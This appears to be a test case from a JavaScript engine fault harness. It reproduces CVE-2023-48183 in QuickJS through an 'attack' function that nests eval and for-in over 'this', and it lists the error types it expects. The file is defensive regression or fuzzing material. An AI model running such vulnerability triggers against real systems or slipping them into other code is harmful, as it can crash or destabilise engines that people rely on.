// class: engine-fault
// source: CVE-2023-48183 (quickjs): build_for_in_enumerate and the scope of "this" with eval
// expect: ok | TypeError | SyntaxError | ReferenceError

export default {
  async attack(input, ctx) {
    return new Function('for (const key in eval("this")) { eval("this.key = key"); break } for (const key in (() => eval("this"))()) return typeof key; return "none"')()
  }
}
